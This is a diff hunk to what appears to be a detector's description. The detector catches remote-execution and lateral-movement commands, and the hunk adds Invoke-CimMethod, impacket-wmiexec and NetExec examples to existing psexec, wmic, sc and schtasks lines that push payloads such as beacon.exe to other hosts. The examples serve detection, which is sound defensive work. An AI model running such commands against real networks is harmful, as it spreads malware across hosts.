@@ -8,7 +8,10 @@ What it catches
     (`psexec \\\\%h -accepteula -s -d -c C:\\Users\\Public\\beacon.exe` over a list of targets,
     `psexec \\\\* ... -c C:\\Windows\\Temp\\enc.exe`, PAExec, CSExec), created as a process
     through WMI on the hosts named or listed (`wmic /node:@hosts.txt process call create "cmd /c
-    \\\\fs01\\pub$\\u.exe"`), or installed as a service or a task on another host (`sc \\\\fs02
+    \\\\fs01\\pub$\\u.exe"`, PowerShell's `Invoke-CimMethod -ComputerName $_ ... Win32_Process`),
+    run by impacket's remote runners or CrackMapExec's and NetExec's `-x` (`impacket-wmiexec
+    ...@$t 'cmd /c C:\\Windows\\Temp\\x.exe'`), or installed as a service or a task on another
+    host (`sc \\\\fs02
     create WinSvcHost binPath= "cmd /c C:\\Windows\\Temp\\beacon.exe"`, `schtasks /create /s
     HOST /tr ...`). In a response such a command is part of an artifact, weighed with the
     request.
